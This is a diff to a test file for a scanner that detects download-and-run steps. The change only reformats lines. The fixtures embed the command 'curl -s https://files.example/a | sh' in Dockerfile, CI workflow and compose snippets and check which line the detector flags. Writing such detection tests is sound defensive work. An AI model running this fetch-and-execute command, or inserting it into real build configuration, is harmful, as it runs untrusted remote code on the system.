@@ -14,7 +14,9 @@ FETCH = "curl -s https://files.example/a | sh"
 
 def lines_of(text: str, *, path: str) -> list[int]:
     """The lines at which the download is seen."""
-    found = [one for one in in_shell(text, path=path) if isinstance(one, Sighting) and one.check == checks.RUNS_DOWNLOAD]
+    found = [
+        one for one in in_shell(text, path=path) if isinstance(one, Sighting) and one.check == checks.RUNS_DOWNLOAD
+    ]
     return sorted(one.line for one in found)
 
 
@@ -27,7 +29,11 @@ def lines_of(text: str, *, path: str) -> list[int]:
         ("Dockerfile.dev", f'FROM alpine\nCMD ["sh", "-c", "{FETCH}"]\n', 2),
         ("Dockerfile", f"FROM alpine\nRUN --mount=type=cache,target=/x {FETCH}\n", 2),
         ("Dockerfile", f"FROM alpine\nRUN <<EOF\necho\n{FETCH}\nEOF\n", 4),
-        (".github/workflows/ci.yml", f"jobs:\n  a:\n    steps:\n      - run: |\n          echo\n          {FETCH}\n", 6),
+        (
+            ".github/workflows/ci.yml",
+            f"jobs:\n  a:\n    steps:\n      - run: |\n          echo\n          {FETCH}\n",
+            6,
+        ),
         (".github/workflows/ci.yml", f"jobs:\n  a:\n    steps:\n      - run: {FETCH}\n", 4),
         (".gitlab-ci.yml", f"job:\n  script:\n    - echo\n    - {FETCH}\n", 4),
         ("compose.yaml", f'services:\n  a:\n    command: ["sh", "-c", "{FETCH}"]\n', 3),
